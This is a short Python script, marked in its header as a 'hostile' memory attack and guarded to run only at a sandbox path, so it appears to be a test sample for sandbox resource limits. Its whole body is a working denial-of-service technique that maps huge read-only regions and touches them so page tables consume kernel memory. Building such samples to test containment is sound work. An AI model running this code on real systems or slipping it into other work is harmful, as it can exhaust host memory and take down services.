# /// hostile
# attack = "Read-only pages of nothing cost no memory, but the tables of their addresses do."
# reason = "memory"
# ///
if __file__ != "/box/main.py": raise SystemExit("runs in the sandbox only")
import ctypes, time

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
READ, PRIVATE_ANONYMOUS_NORESERVE, STEP = 1, 0x4022, 2 << 20
for _ in range(16):
    start = libc.mmap(None, 1 << 36, READ, PRIVATE_ANONYMOUS_NORESERVE, -1, 0)
    if start == 2**64 - 1:
        time.sleep(60)
    for address in range(start, start + (1 << 36), STEP):
        ctypes.c_char.from_address(address).value
time.sleep(60)
